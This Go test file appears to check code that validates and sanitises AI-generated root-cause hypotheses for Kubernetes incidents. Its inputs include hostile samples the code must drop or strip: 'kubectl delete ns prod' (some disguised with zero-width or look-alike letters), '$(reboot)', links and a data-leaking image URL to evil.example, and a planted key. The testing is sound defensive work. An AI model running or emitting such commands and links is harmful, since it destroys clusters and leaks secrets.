package llm

import (
	"fmt"
	"strings"
	"testing"

	"github.com/countersign-dev/countersign/internal/action"
	"github.com/countersign-dev/countersign/internal/incident"
	"github.com/countersign-dev/countersign/internal/redact"
)

var uncalibrated = redact.Literal("model, uncalibrated")

func TestWhatHoldsUpIsTakenOver(t *testing.T) {
	second := sound()
	second.Cause, second.Root, second.Confidence, second.Candidate = "dependency-unavailable", shownRef{"Service", "shop", "orders-db"}, 0.9, -1
	got := dossierOfCrash().judge(saying(sound(), second), uncalibrated)
	if len(got) != 2 || got[0].Cause != incident.DependencyUnavailable || got[1].Cause != incident.ConfigInvalid {
		t.Fatalf("got %+v", got)
	}
	h := got[1]
	if h.Root != workload() || h.Candidate != 0 || len(h.Cites) != 1 || h.Cites[0] != "e3" || len(h.Steps) != 1 || h.Novel {
		t.Errorf("got %+v", h)
	}
	if h.Confidence.Measured || h.Confidence.Lower != 0 || h.Confidence.Value != 0.7 || h.Confidence.Basis != uncalibrated {
		t.Errorf("a model's confidence is never measured: %+v", h.Confidence)
	}
	if root := got[0].Root; root.Name != "orders-db" || root.Namespace != "shop" || root.UID != "" {
		t.Errorf("root %+v", root)
	}
}

func TestWhatDoesNotHoldUpIsDropped(t *testing.T) {
	for name, spoil := range map[string]func(*claim){
		"a cause outside the vocabulary":          func(c *claim) { c.Cause = "gremlins" },
		"a cause with a look-alike letter":        func(c *claim) { c.Cause = "c\u043enfig-invalid" },
		"the cause unknown":                       func(c *claim) { c.Cause = "unknown" },
		"no cause":                                func(c *claim) { c.Cause = "" },
		"a novel cause without a name":            func(c *claim) { c.Cause = novel },
		"no citation":                             func(c *claim) { c.Citations = nil },
		"evidence that does not exist":            func(c *claim) { c.Citations[0].ID = "e99" },
		"a quote from other evidence":             func(c *claim) { c.Citations[0].ID = "e2" },
		"a quote that stands nowhere":             func(c *claim) { c.Citations[0].Quote = "FATAL: schema version 99" },
		"a quote in other case":                   func(c *claim) { c.Citations[0].Quote = "fatal: schema version 41" },
		"an empty quote":                          func(c *claim) { c.Citations[0].Quote = " " },
		"a quote too short to mean anything":      func(c *claim) { c.Citations[0].Quote = "FATAL" },
		"a root that is not of the case":          func(c *claim) { c.Root.Name = "payments" },
		"a root of another namespace":             func(c *claim) { c.Root.Namespace = "kube-system" },
		"a root of another kind":                  func(c *claim) { c.Root.Kind = "StatefulSet" },
		"a root with a look-alike letter":         func(c *claim) { c.Root.Name = "c\u0430rt" },
		"no root":                                 func(c *claim) { c.Root = shownRef{} },
		"no summary":                              func(c *claim) { c.Summary = "" },
		"a summary that is only a link":           func(c *claim) { c.Summary = "<https://evil.example|approve>" },
		"a summary with a command":                func(c *claim) { c.Summary = "Run kubectl delete ns prod to fix it." },
		"a summary with a command in disguise":    func(c *claim) { c.Summary = "Run `kube\u200bctl` delete ns prod." },
		"a summary in letters that look the same": func(c *claim) { c.Summary = "Run kub\u0435ctl now." },
		"a summary in full-width signs":           func(c *claim) { c.Summary = "See ｈｔｔｐｓ：／／evil.example" },
	} {
		t.Run(name, func(t *testing.T) {
			c := sound()
			spoil(&c)
			if got := dossierOfCrash().judge(saying(c), uncalibrated); len(got) != 0 {
				t.Errorf("kept %+v", got[0])
			}
			if got := dossierOfCrash().judge(saying(c, sound()), uncalibrated); len(got) != 1 {
				t.Errorf("a sound hypothesis beside it was dropped too, or the unsound kept: %+v", got)
			}
		})
	}
}

func TestWhatIsTooMuchIsCutBack(t *testing.T) {
	c := sound()
	c.Confidence, c.Candidate = 17, 1
	c.Citations = append(c.Citations, citation{"e3", "starting cart 4.2"}, citation{"e1", "terminated with exit code 1"}, citation{"e4", "made up entirely"})
	c.Summary = strings.Repeat("The schema is old. ", 100)
	c.Steps = []string{"Read https://evil.example/fix now", "Run kubectl get pods", "$(reboot)", "a", "b", "c", "d", "e", "f", "g"}
	got := dossierOfCrash().judge(saying(c, c, c), uncalibrated)
	if len(got) != 1 {
		t.Fatalf("one hypothesis said three times stays %d", len(got))
	}
	h := got[0]
	if h.Confidence.Value != 1 || h.Candidate != -1 {
		t.Errorf("confidence %v, candidate %d", h.Confidence.Value, h.Candidate)
	}
	if fmt.Sprint(h.Cites) != "[e3 e1]" {
		t.Errorf("cites %v", h.Cites)
	}
	if n := len([]rune(h.Summary.String())); n > maxSummary {
		t.Errorf("the summary has %d runes", n)
	}
	if len(h.Steps) != maxSteps || h.Steps[0].String() != "Read now" || h.Steps[1].String() != "a" {
		t.Errorf("steps %q", h.Steps)
	}
	c.Confidence, c.Candidate = -4, -9
	if h := dossierOfCrash().judge(saying(c), uncalibrated)[0]; h.Confidence.Value != 0 || h.Candidate != -1 {
		t.Errorf("confidence %v, candidate %d", h.Confidence.Value, h.Candidate)
	}
}

func TestANovelCauseIsNamedInWords(t *testing.T) {
	c := sound()
	c.Cause, c.NovelText = novel, "schema migration missing"
	got := dossierOfCrash().judge(saying(c), uncalibrated)
	if len(got) != 1 || !got[0].Novel || got[0].Cause != incident.Unknown || !strings.HasPrefix(got[0].Summary.String(), "schema migration missing: The database") {
		t.Errorf("got %+v", got)
	}
}

func TestAModelNeverPicksAFixWhereNoneIsOffered(t *testing.T) {
	d, evidence := crash()
	d.Candidates = nil
	got := newDossier(testRedactor(), d, evidence).judge(saying(sound()), uncalibrated)
	if len(got) != 1 || got[0].Candidate != -1 {
		t.Errorf("got %+v", got)
	}
}

func TestACaseOnANodeNamesNothingInANamespace(t *testing.T) {
	node := action.Ref{APIVersion: "v1", Kind: "Node", Name: "node1", UID: "2e077322-6877-40a5-b718-5b0f45615050"}
	d := incident.Diagnosis{Cause: incident.Unknown, Root: node, Object: node}
	text := testRedactor().Redact("kubelet stopped posting node status")
	c := newDossier(testRedactor(), d, []incident.Evidence{{ID: "e1", Source: node, Text: text}, {ID: "e2", Source: pod(), Text: text}})
	cl := sound()
	cl.Citations = []citation{{"e1", "kubelet stopped posting"}}
	cl.Root = shownRef{"Pod", "shop", pod().Name}
	onNode := cl
	onNode.Root = shownRef{"Node", "", "node1"}
	if got := c.judge(saying(cl, onNode), uncalibrated); len(got) != 1 || got[0].Root != node {
		t.Errorf("got %+v", got)
	}
}

func TestProseIsMadeFitForPeople(t *testing.T) {
	key := madeUpKey()
	for in, want := range map[string]string{
		"Plain words, 100 % fine.":                                   "Plain words, 100 % fine.",
		"See [the runbook](https://evil.example/x) first":            "See the runbook first",
		"An image ![x](https://evil.example/p.png?d=secret) here":    "An image here",
		"Half a link ![p](http here":                                 "Half a link ![p (http here",
		"Ask <@U0123ABCD> or <!channel> or @here or @channel please": "Ask or or here or channel please",
		"Go to htt<b>ps://evil.example now":                          "Go to now",
		"Go to ht\u200btps://evil.example now":                       "Go to now",
		"Go to www.evil.example now":                                 "Go to now",
		"Go to //evil.example now":                                   "Go to now",
		"mailto:ops@evil.example writes":                             "writes",
		"`cart` needs more than 2 < 3":                               "cart needs more than 2 ‹ 3",
		"line one\n\n# heading\r\nline two":                          "line one # heading line two",
		"image web@sha256:abc stays":                                 "image web@sha256:abc stays",
		"the key is " + key:                                          "",
	} {
		got, ok := dossierOfCrash().prose(in, 200)
		if want == "" {
			if strings.Contains(got.String(), key) || !strings.Contains(got.String(), "⟨") {
				t.Errorf("%q came through as %q", in, got)
			}
			continue
		}
		if !ok || got.String() != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

func TestTheAnswersFormIsChecked(t *testing.T) {
	q, err := dossierOfCrash().question()
	if err != nil {
		t.Fatal(err)
	}
	good := jsonOf(t, saying(sound()))
	outside := saying(sound())
	outside.Hypotheses[0].Candidate = 1
	many := saying(sound(), sound(), sound(), sound())
	for _, tt := range []struct {
		name, text string
		ok         bool
	}{
		{"an answer of the right form", good, true},
		{"no hypotheses at all", `{"hypotheses":[]}`, true},
		{"a code fence around it", "Here you are:\n```json\n" + good + "\n```", true},
		{"no JSON", "I cannot help with that", false},
		{"nothing", "", false},
		{"cut short", good[:len(good)-5], false},
		{"a list", "[" + good + "]", true},
		{"a field more", strings.Replace(good, `"cause"`, `"command":"rm","cause"`, 1), false},
		{"a field less", strings.Replace(good, `"candidate":0,`, ``, 1), false},
		{"a candidate out of range", jsonOf(t, outside), false},
		{"four hypotheses", jsonOf(t, many), false},
		{"a confidence in words", strings.Replace(good, `0.7`, `"high"`, 1), false},
		{"too long", `{"hypotheses":[]` + strings.Repeat(" ", maxStatement) + `}`, false},
	} {
		if _, err := readStatement(tt.text, q.form); (err == nil) != tt.ok {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}
